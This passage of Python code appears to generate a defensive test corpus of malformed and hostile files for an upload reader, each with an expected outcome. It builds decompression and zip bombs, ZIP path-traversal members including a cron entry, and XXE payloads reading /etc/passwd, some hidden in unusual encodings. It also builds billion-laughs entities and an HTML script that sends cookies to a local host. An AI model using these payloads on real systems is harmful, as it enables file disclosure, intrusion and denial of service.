    return _image_page(image, mediabox=b"/MediaBox [0 0 1e30 1e30]", draw=b"1e30 0 0 1e30 0 0")


def pdf_zero_mediabox() -> bytes:
    image = Stream(
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8",
        b"\x80" * 4096,
    )
    return _image_page(image, mediabox=b"/MediaBox [0 0 0 0]")


def pdf_poster_page() -> bytes:
    """The largest page PDF allows (200 x 200 inches) covered by a blank image: OCR'd at reduced scale."""
    image = Stream(
        b"/Type /XObject /Subtype /Image /Width 64 /Height 64 /ColorSpace /DeviceGray /BitsPerComponent 8",
        b"\xff" * 4096,
    )
    return _image_page(image, mediabox=b"/MediaBox [0 0 14400 14400]", draw=b"14400 0 0 14400 0 0")


# --------------------------------------------------------------------------------------------------
# Images (hand-made encoders: PNG, baseline JPEG of flat grey, TIFF, GIF, BMP, WebP, HEIC header)
# --------------------------------------------------------------------------------------------------


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, *, pixels: bytes | None = None, depth: int = 8, extra: bytes = b"") -> bytes:
    """A greyscale PNG; `pixels` defaults to white rows (only as many as the IDAT needs to be valid)."""
    if pixels is None:
        row = b"\x00" + b"\xff" * ((width * depth + 7) // 8)
        pixels = row * height
    header = struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + extra
        + _png_chunk(b"IDAT", zlib.compress(pixels, 9))
        + _png_chunk(b"IEND", b"")
    )


def png_bomb_header() -> bytes:
    return png(100_000, 100_000, pixels=b"\x00" * 1024)


def png_truncated() -> bytes:
    rng = random.Random(5)
    data = png(300, 200, pixels=b"".join(b"\x00" + rng.randbytes(300) for _ in range(200)))
    return data[: len(data) // 2]


def png_big_blank() -> bytes:
    """9,000 x 9,000 one-bit white: under the pixel limit, 10 KB on disk, 81 MB once greyscale."""
    row = b"\x00" + b"\xff" * ((9000 + 7) // 8)
    return png(9000, 9000, pixels=row * 9000, depth=1)


def png_bad_pixels() -> bytes:
    """Every chunk and CRC valid, but the pixel rows use filter type 9, which does not exist."""
    return png(64, 64, pixels=(b"\x09" + b"\xff" * 64) * 64)


def png_ztxt_bomb() -> bytes:
    """A small valid image carrying a compressed text chunk that inflates to 16 MB."""
    ztxt = _png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(b"A" * (16 * 1024 * 1024), 9))
    return png(32, 32, extra=ztxt)


# Baseline JPEG of a flat grey image: every block's AC coefficients are zero (one EOB code each), and
# only the first block has a DC difference. Two tiny Huffman tables suffice.


def _bits(value: int, length: int) -> str:
    return format(value, f"0{length}b") if length else ""


def jpeg_gray(width: int, height: int, *, level: int = 255, blocks: int | None = None) -> bytes:
    """A baseline greyscale JPEG, flat `level`; `blocks` < the image's blocks leaves the scan short."""
    dc = (level - 128) * 8  # quantisation table of ones: the DC coefficient is 8 x the level-shifted mean
    category = abs(dc).bit_length()
    amplitude = dc if dc >= 0 else dc + (1 << category) - 1
    total = ((width + 7) // 8) * ((height + 7) // 8)
    count = total if blocks is None else blocks
    # DC table: category 0 -> "00", category c -> "01"; AC table: EOB (0x00) -> "0"
    bits = "01" + _bits(amplitude, category) + "0" + "000" * (count - 1) if count else ""
    bits += "1" * (-len(bits) % 8)
    scan = bytearray()
    for i in range(0, len(bits), 8):
        byte = int(bits[i : i + 8], 2)
        scan.append(byte)
        if byte == 0xFF:
            scan.append(0)  # byte stuffing
    dc_symbols = sorted({0, category})
    dht_dc = b"\x00" + bytes([0, len(dc_symbols)] + [0] * 14) + bytes(dc_symbols)
    dht_ac = b"\x10" + bytes([1] + [0] * 15) + b"\x00"
    segment = lambda marker, body: marker + struct.pack(">H", len(body) + 2) + body
    out = b"\xff\xd8"
    out += segment(b"\xff\xe0", b"JFIF\x00\x01\x01\x01\x01\x2c\x01\x2c\x00\x00")  # 300 dpi
    out += segment(b"\xff\xdb", b"\x00" + b"\x01" * 64)
    out += segment(b"\xff\xc0", struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00")
    out += segment(b"\xff\xc4", dht_dc) + segment(b"\xff\xc4", dht_ac)
    out += segment(b"\xff\xda", b"\x01\x01\x00\x00\x3f\x00") + bytes(scan)
    return out + (b"\xff\xd9" if blocks is None else b"")


def jpeg_bomb_header() -> bytes:
    return jpeg_gray(65000, 65000, blocks=16)


def jpeg_truncated() -> bytes:
    data = jpeg_gray(640, 480)
    return data[: len(data) - 40]


def tiff(frames: list[tuple[int, int]], *, loop: bool = False, pixel: bytes = b"\xff") -> bytes:
    """A little-endian greyscale TIFF, one IFD per frame (all frames share one strip of `pixel` bytes)."""
    entry = lambda tag, kind, value: struct.pack("<HHII", tag, kind, 1, value)
    out = bytearray(b"II*\x00" + struct.pack("<I", 8 + len(pixel)) + pixel)
    for index, (width, height) in enumerate(frames):
        ifd_at = len(out)
        entries = [
            entry(256, 4, width),
            entry(257, 4, height),
            entry(258, 3, 8),
            entry(262, 3, 1),
            entry(273, 4, 8),
            entry(278, 4, height),
            entry(279, 4, len(pixel)),
        ]
        last = index == len(frames) - 1
        following = (8 + len(pixel) if loop else 0) if last else ifd_at + 2 + 12 * len(entries) + 4
        out += struct.pack("<H", len(entries)) + b"".join(entries) + struct.pack("<I", following)
    return bytes(out)


def tiff_bomb_header() -> bytes:
    return tiff([(100_000, 100_000)])


def gif(width: int, height: int, *, pixels: int | None = None) -> bytes:
    """A white GIF89a. Its LZW data sends a clear code before every pixel, so codes stay 3 bits wide;
    `pixels` (default: all of them) fewer than width x height leaves the image data short."""
    count = width * height if pixels is None else pixels
    codes = [4, 0] * count + [5]  # clear, colour 0 (white) ... end of information
    value = sum(code << (3 * i) for i, code in enumerate(codes))
    data = value.to_bytes((3 * len(codes) + 7) // 8, "little")
    blocks = b"".join(bytes([len(data[i : i + 255])]) + data[i : i + 255] for i in range(0, len(data), 255))
    return (
        b"GIF89a"
        + struct.pack("<HH", width, height)
        + b"\x80\x00\x00"  # global colour table of two entries
        + b"\xff\xff\xff\x00\x00\x00"
        + b"\x2c\x00\x00\x00\x00"
        + struct.pack("<HH", width, height)
        + b"\x00\x02"
        + blocks
        + b"\x00\x3b"
    )


def bmp_bomb_header() -> bytes:
    info = struct.pack("<IiiHHIIiiII", 40, 100_000, 100_000, 1, 24, 0, 0, 11811, 11811, 0, 0)
    return b"BM" + struct.pack("<IHHI", 14 + len(info) + 16, 0, 0, 14 + len(info)) + info + b"\x00" * 16


def webp_bomb_header() -> bytes:
    """An extended WebP whose canvas is 16,384 x 16,384 (the format's maximum) with one tiny frame."""
    vp8x = b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (16383).to_bytes(3, "little") * 2
    # a 1x1 lossless VP8L bitstream (signature 0x2f, 14-bit width-1 and height-1, then a minimal image)
    vp8l_body = b"\x2f\x00\x00\x00\x00\x07\x10\x11\x00\x00"
    vp8l = b"VP8L" + struct.pack("<I", len(vp8l_body)) + vp8l_body
    body = b"WEBP" + vp8x + vp8l
    return b"RIFF" + struct.pack("<I", len(body)) + body


def heic_header() -> bytes:
    return struct.pack(">I", 24) + b"ftypheic" + b"\x00\x00\x00\x00mif1heic" + b"\x00" * 64


# --------------------------------------------------------------------------------------------------
# ZIP, DOCX and other Office packages
# --------------------------------------------------------------------------------------------------

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE_DOC = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
CT_DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
CT_DOCM = "application/vnd.ms-word.document.macroEnabled.main+xml"
CT_DOTX = "application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml"
CT_XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
CT_PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
XML_DECL = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def content_types(main_part: str = "/word/document.xml", main_type: str = CT_DOCX, extra: str = "") -> bytes:
    return (
        XML_DECL
        + (
            f'<Types xmlns="{CT_NS}"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="{main_part}" ContentType="{main_type}"/>{extra}</Types>'
        ).encode()
    )


def package_rels(target: str = "word/document.xml") -> bytes:
    return (
        XML_DECL
        + (
            f'<Relationships xmlns="{REL_NS}"><Relationship Id="rId1" Type="{OFFICE_DOC}" Target="{target}"/>'
            "</Relationships>"
        ).encode()
    )


def document_xml(paragraphs: list[str] | None = None, *, doctype: bytes = b"") -> bytes:
    body = "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in (paragraphs or [CANARY]))
    return (
        XML_DECL
        + doctype
        + f'<w:document xmlns:w="{W_NS}"><w:body>{body}<w:sectPr/></w:body></w:document>'.encode()
    )


def docx_members(**changes: bytes | None) -> dict[str, bytes]:
    """A minimal valid DOCX's parts; keyword arguments replace (or, with None, remove) a part."""
    members = {
        "[Content_Types].xml": content_types(),
        "_rels/.rels": package_rels(),
        "word/document.xml": document_xml(),
    }
    for name, data in changes.items():
        name = {
            "content_types": "[Content_Types].xml",
            "rels": "_rels/.rels",
            "document": "word/document.xml",
        }.get(name, name)
        if data is None:
            members.pop(name, None)
        else:
            members[name] = data
    return members


def make_zip(
    members: dict[str, bytes] | list[tuple[str, bytes]], *, method: int = zipfile.ZIP_DEFLATED
) -> bytes:
    """A ZIP with fixed dates and attributes, so the same members always give the same bytes."""
    import io

    buffer = io.BytesIO()
    items = members.items() if isinstance(members, dict) else members
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in items:
            info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = method
            info.create_system = 3
            info.external_attr = 0o644 << 16
            archive.writestr(info, data, compresslevel=9 if method == zipfile.ZIP_DEFLATED else None)
    return buffer.getvalue()


@dataclass
class RawMember:
    """A ZIP entry written field by field, so sizes, flags and offsets can lie."""

    name: bytes
    payload: bytes  # the bytes stored (already compressed for method 8)
    method: int = 8
    crc: int = 0
    usize: int = 0
    flags: int = 0
    share: int | None = None  # a central entry pointing at an earlier member's local header (no own data)


def deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def raw_member(name: str, data: bytes, *, method: int = 8, **fields) -> RawMember:
    payload = deflate(data) if method == 8 else data
    values = {"crc": zlib.crc32(data), "usize": len(data), **fields}
    return RawMember(name.encode(), payload, method, **values)


def raw_zip(members: list[RawMember], *, comment: bytes = b"") -> bytes:
    out = bytearray()
    offsets: list[int] = []
    for member in members:
        if member.share is not None:
            offsets.append(offsets[member.share])
            continue
        offsets.append(len(out))
        out += (
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                member.flags,
                member.method,
                0,
                0x5021,
                member.crc,
                len(member.payload),
                member.usize,
                len(member.name),
                0,
            )
            + member.name
            + member.payload
        )
    central_at = len(out)
    for member, offset in zip(members, offsets, strict=True):
        stored = members[member.share] if member.share is not None else member
        out += (
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                0x031E,
                20,
                member.flags,
                member.method,
                0,
                0x5021,
                member.crc,
                len(stored.payload),
                member.usize,
                len(member.name),
                0,
                0,
                0,
                0,
                0o644 << 16,
                offset,
            )
            + member.name
        )
    out += struct.pack(
        "<IHHHHIIH",
        0x06054B50,
        0,
        0,
        len(members),
        len(members),
        len(out) - central_at,
        central_at,
        len(comment),
    )
    return bytes(out + comment)


def docx_bytes(**changes: bytes | None) -> bytes:
    return make_zip(docx_members(**changes))


def docx_zip_bomb() -> bytes:
    """A DOCX carrying a 40 MB part of zeros that deflates to ~40 KB (1,000:1)."""
    return docx_bytes(**{"word/media/image1.png": bytes(40 * 1024 * 1024)})


def docx_lying_sizes() -> bytes:
    """document.xml declares 2 KB inflated but its data inflates to 40 MB."""
    members = [raw_member(name, data) for name, data in docx_members().items() if name != "word/document.xml"]
    big = document_xml() + b"<!-- " + b"x" * (40 * 1024 * 1024) + b" -->"
    fake = raw_member("word/document.xml", big)
    fake.usize = 2048
    fake.crc = zlib.crc32(big[:2048])
    return raw_zip([*members, fake])


def docx_lying_size_bomb() -> bytes:
    """[Content_Types].xml declares its true 400-odd bytes, but its deflate data runs on to 2 GB of zeros.

    Built from one 4 MB-of-zeros segment that deflate emits identically after each full flush, repeated.
    """
    types = content_types()
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = compressor.compress(types) + compressor.flush(zlib.Z_FULL_FLUSH)
    segment = compressor.compress(bytes(4 * 1024 * 1024)) + compressor.flush(zlib.Z_FULL_FLUSH)
    payload = head + segment * 500 + compressor.flush(zlib.Z_FINISH)
    members = [
        raw_member(name, data) for name, data in docx_members().items() if name != "[Content_Types].xml"
    ]
    lying = RawMember(b"[Content_Types].xml", payload, 8, zlib.crc32(types), len(types))
    return raw_zip([lying, *members])


def docx_overlapping_entries() -> bytes:
    """320 central-directory entries all pointing at one 1 MB member: 320 MB declared from ~35 KB."""
    rng = random.Random(13)
    kernel = bytearray(1024 * 1024)
    for i in range(0, len(kernel), 128):  # a random byte every 128 breaks long matches: ~30:1, not a 'bomb'
        kernel[i] = rng.randrange(256)
    members = [raw_member(name, data) for name, data in docx_members().items()]
    first = len(members)
    members.append(raw_member("word/media/image0.bin", bytes(kernel)))
    for i in range(1, 320):
        shared = raw_member(f"word/media/image{i}.bin", b"")
        shared.crc, shared.usize, shared.share = members[first].crc, len(kernel), first
        members.append(shared)
    return raw_zip(members)


def docx_nested_zip() -> bytes:
    """A valid DOCX holding an embedded ZIP, which holds a zip bomb (never opened by the reader)."""
    bomb = make_zip({"zeros.bin": bytes(20 * 1024 * 1024)})
    inner = make_zip({"inner.zip": bomb, "readme.txt": HIDDEN.encode()})
    return docx_bytes(**{"word/embeddings/package.zip": inner})


def zip_of_docx() -> bytes:
    return make_zip({"records/letter.docx": docx_bytes()})


def docx_many_members(count: int) -> Callable[[], bytes]:
    def make() -> bytes:
        members = docx_members()
        for i in range(count):
            members[f"m/{i:x}"] = b""
        return make_zip(members, method=zipfile.ZIP_STORED)

    return make


def docx_path_traversal_members() -> bytes:
    return docx_bytes(
        **{
            "../../evil.xml": XML_DECL + b"<evil/>",
            "/etc/cron.d/evil": b"* * * * * root touch /tmp/pwned\n",
            "..\\..\\windows\\evil.xml": XML_DECL + b"<evil/>",
        }
    )


XXE = b'<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
LAUGHS = (
    b'<!DOCTYPE w:document [<!ENTITY lol "lol">'
    + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"&lol%d;" % (i - 1) * 10 if i > 1 else b"&lol;" * 10)
        for i in range(1, 10)
    )
    + b"]>\n"
)


def docx_xxe() -> bytes:
    return docx_bytes(document=document_xml(["&xxe;", CANARY], doctype=XXE))


def docx_billion_laughs() -> bytes:
    return docx_bytes(document=document_xml(["&lol9;", CANARY], doctype=LAUGHS))


def docx_doctype_in_content_types() -> bytes:
    types = content_types().replace(
        XML_DECL, XML_DECL + b'<!DOCTYPE Types [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n'
    )
    return docx_bytes(content_types=types)


def docx_xxe_utf16() -> bytes:
    text = (
        document_xml(["&xxe;", CANARY], doctype=XXE).decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    )
    return docx_bytes(document=text.encode("utf-16"))


def docx_xxe_utf32() -> bytes:
    """XXE in a UTF-32 document part (libxml2 detects UCS-4 from the first four bytes)."""
    text = (
        document_xml(["&xxe;", CANARY], doctype=XXE).decode().replace('encoding="UTF-8"', 'encoding="UCS-4"')
    )
    return docx_bytes(document=text.encode("utf-32-le"))


def docx_xxe_utf32_bom() -> bytes:
    text = (
        document_xml(["&xxe;", CANARY], doctype=XXE).decode().replace('encoding="UTF-8"', 'encoding="UTF-32"')
    )
    return docx_bytes(document=text.encode("utf-32"))


def docx_xxe_utf7() -> bytes:
    """XXE in a part declared UTF-7: '<!' is written '+ADwAIQ-', so no '<!DOCTYPE' appears in the bytes."""
    text = document_xml(["&xxe;", CANARY], doctype=XXE).replace(b'encoding="UTF-8"', b'encoding="UTF-7"')
    return docx_bytes(document=text.replace(b"<!", b"+ADwAIQ-"))


def docx_xxe_in_rels() -> bytes:
    rels = package_rels().replace(XML_DECL, XML_DECL + XXE.replace(b"w:document", b"Relationships"))
    return docx_bytes(rels=rels)


def docx_styles_rel_traversal() -> bytes:
    rels = (
        XML_DECL
        + (
            f'<Relationships xmlns="{REL_NS}">'
            '<Relationship Id="rId1" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
            'Target="../../../../../../etc/passwd"/>'
            '<Relationship Id="rId2" '
            'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" '
            'Target="http://127.0.0.1:9/styles.xml" TargetMode="External"/></Relationships>'
        ).encode()
    )
    return docx_bytes(**{"word/_rels/document.xml.rels": rels})


def docx_macro_enabled() -> bytes:
    types = content_types(
        main_type=CT_DOCM,
        extra='<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>',
    )
    return docx_bytes(content_types=types, **{"word/vbaProject.bin": OLE_MACRO_STUB})


def docx_macro_type_only() -> bytes:
    return docx_bytes(content_types=content_types(main_type=CT_DOCM))


def docx_missing_document() -> bytes:
    return docx_bytes(document=None)


def docx_document_not_xml() -> bytes:
    return docx_bytes(document=b"This is not XML at all. " + CANARY.encode() + b" <w:p <<<")


def docx_main_part_missing() -> bytes:
    return docx_bytes(content_types=content_types(main_part="/word/elsewhere.xml"))


def docx_no_content_types() -> bytes:
    return docx_bytes(content_types=None)


def docx_deep_xml() -> bytes:
    depth = 10_000  # (the part stays under 1 MB, so the compression-ratio rule does not apply)
    nested = (
        "<w:sdt><w:sdtContent>" * depth
        + f"<w:p><w:r><w:t>{CANARY}</w:t></w:r></w:p>"
        + "</w:sdtContent></w:sdt>" * depth
    )
    return docx_bytes(
        document=XML_DECL + f'<w:document xmlns:w="{W_NS}"><w:body>{nested}</w:body></w:document>'.encode()
    )


def docx_truncated() -> bytes:
    data = docx_bytes()
    return data[: len(data) // 2]


def docx_zipcrypto_flag() -> bytes:
    """document.xml marked as encrypted (ZIP 'traditional PKWARE encryption' flag)."""
    members = [raw_member(name, data) for name, data in docx_members().items()]
    members[-1].flags = 0x1
    return raw_zip(members)


def docx_unknown_compression() -> bytes:
    """document.xml stored with method 99 (WinZip AES), which nothing here can inflate."""
    members = [raw_member(name, data) for name, data in docx_members().items()]
    members[-1].method = 99
    return raw_zip(members)


def xlsx_bytes() -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": content_types("/xl/workbook.xml", CT_XLSX),
            "_rels/.rels": package_rels("xl/workbook.xml"),
            "xl/workbook.xml": XML_DECL
            + b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
        }
    )


def pptx_bytes() -> bytes:
    return make_zip(
        {
            "[Content_Types].xml": content_types("/ppt/presentation.xml", CT_PPTX),
            "_rels/.rels": package_rels("ppt/presentation.xml"),
            "ppt/presentation.xml": XML_DECL
            + b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>',
        }
    )


def odt_bytes() -> bytes:
    return make_zip(
        [
            ("mimetype", b"application/vnd.oasis.opendocument.text"),
            ("content.xml", XML_DECL + b"<office:document-content/>"),
        ],
        method=zipfile.ZIP_STORED,
    )


def dotx_bytes() -> bytes:
    return docx_bytes(content_types=content_types(main_type=CT_DOTX))


# ---- OLE compound files (.doc, .xls, encrypted OOXML) ----------------------------------------------

ENDOFCHAIN, FATSECT, FREESECT, NOSTREAM = 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF, 0xFFFFFFFF


def ole(streams: dict[str, bytes]) -> bytes:
    """A version-3 compound file (512-byte sectors); streams padded to 4 KB so no mini stream is needed.

    Layout: FAT sectors, then each stream's sectors, then the directory, so a reader that only looks at
    the first bytes of a large file does not see the stream names.
    """
    sector = 512
    payloads = []
    for payload in streams.values():
        payload = payload + b"\x00" * (max(4096, len(payload)) - len(payload))
        payloads.append(payload + b"\x00" * (-len(payload) % sector))
    entries = ["Root Entry", *streams]
    dir_sectors = (len(entries) + 3) // 4
    used = sum(len(p) // sector for p in payloads) + dir_sectors
    fat_sectors = 1
    while fat_sectors * 128 < used + fat_sectors:
        fat_sectors += 1
    assert fat_sectors <= 109, "the header's DIFAT only"
    fat = [FATSECT] * fat_sectors
    starts = []
    for payload in payloads:
        starts.append(len(fat))
        count = len(payload) // sector
        fat.extend(len(fat) + 1 for _ in range(count - 1))
        fat.append(ENDOFCHAIN)
    dir_start = len(fat)
    fat.extend(dir_start + i + 1 for i in range(dir_sectors - 1))
    fat.append(ENDOFCHAIN)
    fat += [FREESECT] * (fat_sectors * 128 - len(fat))

    def entry(
        name: str, kind: int, *, right: int = NOSTREAM, child: int = NOSTREAM, start: int = 0, size: int = 0
    ) -> bytes:
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        return (
            encoded.ljust(64, b"\x00")
            + struct.pack("<HBBIII", len(encoded), kind, 1, NOSTREAM, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    # siblings in a right-leaning chain, ordered as the format sorts them (length, then upper case)
    order = sorted(range(1, len(entries)), key=lambda i: (len(entries[i]), entries[i].upper()))
    right_of = {order[i]: order[i + 1] for i in range(len(order) - 1)}
    directory = bytearray(entry("Root Entry", 5, child=order[0], start=ENDOFCHAIN))
    for index in range(1, len(entries)):
        directory += entry(
            entries[index],
            2,
            right=right_of.get(index, NOSTREAM),
            start=starts[index - 1],
            size=len(payloads[index - 1]),
        )
    directory += b"\x00" * (dir_sectors * sector - len(directory))
    difat = list(range(fat_sectors)) + [FREESECT] * (109 - fat_sectors)
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, fat_sectors, dir_start, 0, 4096, ENDOFCHAIN, 0, ENDOFCHAIN, 0)
        + struct.pack("<109I", *difat)
    )
    assert len(header) == 512
    return header + struct.pack(f"<{len(fat)}I", *fat) + b"".join(payloads) + bytes(directory)


OLE_MACRO_STUB = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504  # only a signature: never parsed


def ole_encrypted_docx() -> bytes:
    info = struct.pack("<HHI", 4, 4, 0x40) + (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\r\n<encryption '
        b'xmlns="http://schemas.microsoft.com/office/2006/encryption"><keyData saltSize="16" blockSize="16" '
        b'keyBits="256" hashSize="64" cipherAlgorithm="AES" cipherChaining="ChainingModeCBC" '
        b'hashAlgorithm="SHA512" saltValue="AAAAAAAAAAAAAAAAAAAAAA=="/></encryption>'
    )
    rng = random.Random(17)
    package = struct.pack("<Q", 60_000) + rng.randbytes(80_000)
    return ole({"EncryptionInfo": info, "EncryptedPackage": package, "\x06DataSpaces": b"\x08\x00\x00\x00"})


def ole_word_doc() -> bytes:
    fib = struct.pack("<HH", 0xA5EC, 0x00C1) + bytes(60) + CANARY.encode("utf-16-le")
    return ole({"WordDocument": fib, "1Table": b"\x00" * 64, "\x05SummaryInformation": b"\xfe\xff"})


def ole_excel() -> bytes:
    return ole(
        {"Workbook": b"\x09\x08\x10\x00\x00\x06\x05\x00" + bytes(64), "\x05SummaryInformation": b"\xfe\xff"}
    )


RTF = b"{\\rtf1\\ansi\\deff0 {\\fonttbl {\\f0 Times;}}\\f0 " + CANARY.encode() + b"\\par}\n"


# --------------------------------------------------------------------------------------------------
# Programs, polyglots, plain text
# --------------------------------------------------------------------------------------------------

ELF_HEADER = (
    b"\x7fELF\x02\x01\x01\x00"
    + bytes(8)
    + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
)


def pe_program() -> bytes:
    dos = bytearray(b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44))
    dos += struct.pack("<I", 64)
    return bytes(dos) + b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x8664, 1, 0, 0, 0, 240, 0x22) + bytes(512)


def macho_program() -> bytes:
    return b"\xcf\xfa\xed\xfe" + struct.pack("<IIIIII", 0x01000007, 3, 2, 0, 0, 0) + bytes(256)


def pdf_zip_polyglot() -> bytes:
    """A PDF with a DOCX appended: PDF readers see the PDF, ZIP readers find the archive at the end."""
    return one_page_pdf() + make_zip(docx_members(document=document_xml([HIDDEN])))


def docx_pdf_polyglot() -> bytes:
    """A DOCX whose archive comment is a whole PDF starting within the first 1 KB: read as the PDF."""
    pdf = one_page_pdf(["Polyglot PDF part"])
    data = docx_bytes()
    return data[:-2] + struct.pack("<H", len(pdf)) + pdf


def png_magic_pdf() -> bytes:
    """PNG's signature, then a PDF (readers accept a PDF header within the first 1 KB)."""
    return b"\x89PNG\r\n\x1a\n" + one_page_pdf()


def pdf_after_1k_junk() -> bytes:
    """Binary junk longer than the 1 KB a PDF header may be preceded by, then a PDF."""
    return random.Random(3).randbytes(1100) + one_page_pdf()


def gifar() -> bytes:
    return gif(16, 16) + make_zip({"META-INF/MANIFEST.MF": b"Manifest-Version: 1.0\n"})


HTML = (
    b"<!doctype html><html><head><script>fetch('http://127.0.0.1:9/?c='+document.cookie)</script>"
    b'</head><body onload="alert(1)"><p>' + CANARY.encode() + b"</p></body></html>\n"
)


def latin1_text() -> bytes:
    return ("Señora Núñez said her son's teacher, Mr. Müller, saw him in 2009. " + CANARY + "\n").encode(
        "latin-1"
    )


def utf16_bom_text() -> bytes:
    return ("Informe médico\r\n" + CANARY + "\r\n").encode("utf-16")


def utf16be_no_bom() -> bytes:
    return ("Progress note\n" + CANARY + "\n" + "Follow-up in two weeks.\n" * 20).encode("utf-16-be")


def text_nul_in_head() -> bytes:
    return (CANARY + "\n").encode() + b"\x00\x00" + b"Rest of the note.\n" * 10


def text_nul_after_head() -> bytes:
    filler = b"The client attended every session of the program.\n" * 1400  # ~70 KB, past the 64 KB sniff
    return (CANARY + "\n").encode() + filler + b"\x00\x00\x00 late padding from an export\n"


def binary_garbage() -> bytes:
    return random.Random(19).randbytes(8192)


def bad_utf16() -> bytes:
    """A UTF-16 byte-order mark, then a lone high surrogate and an odd byte out."""
    return b"\xff\xfe" + "Note: ".encode("utf-16-le") + b"\x00\xd8" + "x".encode("utf-16-le") + b"\x41"


def form_feeds(count: int) -> bytes:
    return (CANARY + "\n").encode() + b"\f" * count


def ansi_escapes() -> bytes:
    return b"\x1b[2J\x1b[31mRED\x1b[0m " + CANARY.encode() + b"\n\x1b]0;owned\x07 title change\n"


def long_line(size: int) -> bytes:
    unit = b"the quick brown fox jumps over the lazy dog "
    return (unit * (size // len(unit) + 1))[:size]


# --------------------------------------------------------------------------------------------------
# The corpus
# --------------------------------------------------------------------------------------------------


@dataclass
class Entry:
    name: str
    kind: str
    description: str
    expected: dict
    make: Callable[[], bytes]
    generated: bool = False
    upload_name: str | None = None
    expect_text: str | None = None  # a read must contain this
    forbid_text: list[str] = field(default_factory=list)  # ... and none of these
    pages: int | None = None  # a read yields exactly this many pages
    password: str | None = None  # the user password of an encrypted PDF (proves it is not just damaged)

    def manifest(self) -> dict:
        entry: dict = {
            "name": self.name,
            "kind": self.kind,
            "description": self.description,
            "expected": self.expected,
        }
        for key in ("generated", "upload_name", "expect_text", "forbid_text", "pages", "password"):
            value = getattr(self, key)
            if value:
                entry[key] = value
        return entry


def rejected(reason: str, *, stage: str = "check") -> dict:
    """Refused with `reason`: by check_record at upload, or (stage "read") at the latest by iter_pages,
    for what only reading can find (pixel data, pages that fail to load)."""
    return {"outcome": "rejected", "reason": reason} | ({"stage": stage} if stage != "check" else {})


def read(max_seconds: int = 20) -> dict:
    return {"outcome": "read", "max_seconds": max_seconds}


def entries() -> list[Entry]:
    E = Entry
    return [
        # ---- PDF: truncated, broken cross-references, garbage -------------------------------------
        E(
            "pdf_truncated_at_15pct.pdf",
            "pdf/truncated",
            "A 3-page PDF cut after 15%: catalog, page tree and font only.",
            rejected("pdf_damaged"),
            pdf_truncated(0.15),
        ),
        E(
            "pdf_truncated_at_40pct.pdf",
            "pdf/truncated",
            "Cut after 40%: up to the first page; no xref or trailer.",
            rejected("pdf_damaged"),
            pdf_truncated(0.40),
        ),
        E(
            "pdf_truncated_at_70pct.pdf",
            "pdf/truncated",
            "Cut after 70%: two of three pages; no xref or trailer.",
            rejected("pdf_damaged"),
            pdf_truncated(0.70),
        ),
        E(
            "pdf_truncated_before_xref.pdf",
            "pdf/truncated",
            "Every object present; the xref table and trailer cut off (no trailer: pdfium cannot find the "
            "catalog).",
            rejected("pdf_damaged"),
            pdf_cut_before_xref,
        ),
        E(
            "pdf_truncated_before_eof.pdf",
            "pdf/truncated",
            "Only the final %%EOF marker is missing.",
            read(),
            pdf_cut_before_eof,
            expect_text=CANARY_WORD,
            pages=3,
        ),
        E(
            "pdf_objstm_truncated.pdf",
            "pdf/truncated",
            "PDF 1.5 with objects inside a compressed object stream, cut before its xref stream.",
            rejected("pdf_damaged"),
